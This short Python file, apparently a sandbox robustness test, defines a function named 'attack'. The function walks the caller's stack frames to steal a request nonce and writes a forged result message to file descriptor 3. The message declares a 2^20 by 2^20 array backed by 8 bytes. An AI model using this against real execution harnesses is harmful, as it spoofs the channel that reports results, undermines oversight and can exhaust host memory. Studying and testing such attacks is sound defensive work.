import json
import os
import struct
import sys


def attack(x):
    frame = sys._getframe()
    while "nonce" not in frame.f_locals.get("request", ()):
        frame = frame.f_back
    value = {"kind": "array", "dtype": "<f8", "shape": [2**20, 2**20], "bytes": 8}
    answer = {"nonce": frame.f_locals["request"]["nonce"], "outcome": "returned", "value": value}
    header = json.dumps(answer).encode()
    os.write(3, struct.pack(">II", len(header), 8) + header + bytes(8))
    return x
